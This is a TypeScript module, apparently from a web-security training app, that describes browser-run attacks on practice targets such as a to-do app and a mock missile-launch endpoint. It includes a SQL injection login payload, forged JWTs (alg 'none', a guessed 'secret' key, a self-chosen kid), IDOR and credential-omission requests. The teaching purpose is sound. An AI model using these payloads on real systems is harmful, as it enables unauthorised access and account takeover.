/**
 * The attacks that a learner's own browser can run from the page of a rung.
 *
 * @module
 */
import type { Stage } from "../../lib/stage.ts";
import { encode, hmac } from "../forged_jwt.ts";

/** One attack, as data: what the page's script is to do. */
export interface Live {
  method: "GET" | "POST";
  path: string;
  fields?: Record<string, unknown>;
  /** Add the credential that the page itself keeps. */
  own?: boolean;
  /** Leave the browser's cookies at home. */
  omit?: boolean;
  /** Set this cookie first, so that it is sent before the real one. */
  cookie?: string;
  /** Send the id of a to-do that is not in one's own list. */
  others?: boolean;
  /** Send nothing: look for the credential in all that a script can read. */
  read?: boolean;
  /** Somebody has to be logged in, or there is nothing to break into. */
  login?: boolean;
}

/** What the page can run itself; null where it takes more than a page. */
export function liveAttack(
  attack: string,
  stage: Stage,
): Live | null {
  const missile = stage.app === "missile";
  const locked = {
    method: "GET",
    path: missile ? "/launch-missile" : "/todo/list",
  } as const;
  const own = { own: true, login: stage.credential !== null };
  switch (attack) {
    case "no-credential":
      return { ...locked, omit: true };
    case "script-reads":
      return { ...locked, read: true, login: true };
    case "script-uses":
      return { ...locked, ...own };
    case "copied-forgotten":
      return stage.credential === "cookie"
        ? null
        : { ...locked, ...own, omit: true };
    case "acting-get":
      return missile
        ? { ...locked, ...own }
        : { method: "GET", path: "/todo/create", fields: { text: "again" } };
    case "other-users-todo": {
      if (stage.credential === null) return null;
      const fields = { action: "markStarred" };
      const path = "/todo/update";
      return { method: "POST", path, fields, others: true, ...own };
    }
    case "sql": {
      const fields = { email: "' OR 1=1 --", password: "x" };
      return { method: "POST", path: "/auth/login", fields, omit: true };
    }
    case "jwt-none":
      return forged({ alg: "none", typ: "JWT" }, null);
    case "jwt-guessed-key":
      return forged({ alg: "HS256", typ: "JWT" }, "secret");
    case "jwt-own-key":
      return forged({ alg: "HS256", typ: "JWT", kid: "mine" }, "mine");
  }
  return null;

  function forged(header: Record<string, string>, key: string | null): Live {
    const exp = Date.UTC(2100) / 1000;
    const claims = { aud: `stage ${stage.id}`, sub: "1", sid: 1, exp };
    const signed = `${encode(header)}.${encode(claims)}`;
    const signature = key === null ? "" : hmac(key, signed);
    return { ...locked, cookie: `jwt=${signed}.${signature}`, login: true };
  }
}
